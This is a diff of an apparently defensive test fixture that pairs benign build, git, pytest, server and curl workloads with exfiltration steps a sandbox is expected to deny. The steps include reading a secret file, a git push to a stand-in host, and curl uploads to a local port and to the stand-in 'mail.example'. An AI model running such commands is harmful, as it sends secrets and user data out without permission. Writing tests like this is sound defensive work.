@@ -10,7 +10,7 @@ EVIL = "mail.example"
 
 # name: (files, script, the step of exfiltration, what its denial names)
 WORKLOADS = {
-    "C build": (
+    "make": (
         {"Makefile": "all: app\n\t./app >out.txt\napp: main.o util.o\n\tgcc -o $@ $^\n"
                      "%.o: %.c util.h\n\tgcc -O1 -c -o $@ $<\nclean:\n\trm -f app *.o out.txt\n",
          "main.c": '#include <stdio.h>\n#include "util.h"\nint main(void) '
@@ -20,7 +20,7 @@ WORKLOADS = {
         "make -s && cat out.txt && make -s clean",
         f"cat {SECRET} >stolen",
         SECRET),
-    "git work": (
+    "git": (
         {"file": "one\n"},
         "rm -rf repo copy && git init -q repo && cd repo && cp ../file . && git add file && "
         "git commit -q -m first && echo two >>file && git commit -q -a -m second && "
@@ -28,7 +28,7 @@ WORKLOADS = {
         "git -C ../copy branch | wc -l",
         "git -C ../copy push -q https://git.example/git/repo.git HEAD:refs/heads/stolen",
         "git-remote"),
-    "Python tests": (
+    "pytest": (
         {"pkg/__init__.py": "", "pkg/code.py": "def twice(n):\n    return 2 * n\n",
          "tests/__init__.py": "",
          "tests/test_code.py": "import tempfile, unittest\nfrom pkg import code\n"
@@ -41,14 +41,14 @@ WORKLOADS = {
         "python3 -m unittest -q 2>/dev/null; echo $?",
         f"python3 -c 'import sys; sys.stdout.write(open(\"{SECRET}\").read())'",
         SECRET),
-    "web server": (
+    "server": (
         {"www/index.html": "hello\n"},
         "python3 -m http.server 8377 --bind 127.0.0.1 -d www >/dev/null 2>&1 & server=$!; "
         "for i in 1 2 3 4 5 6 7 8 9; do sleep 1; curl -s -o got http://127.0.0.1:8377/ && break; "
         "done; cat got; kill $server; wait $server",
         "curl -s -m 20 -T got http://127.0.0.1:8378/",
         '"port": 8378'),
-    "curl script": (
+    "curl": (
         {"urls": "https://one.example/\nhttp://two.example/\n"},
         "while read -r url; do curl -s -o page -w '%{http_code}\\n' \"$url\"; done <urls; wc -c <urls",
         f"curl -s -m 20 -o page --data-binary @urls http://{EVIL}/",
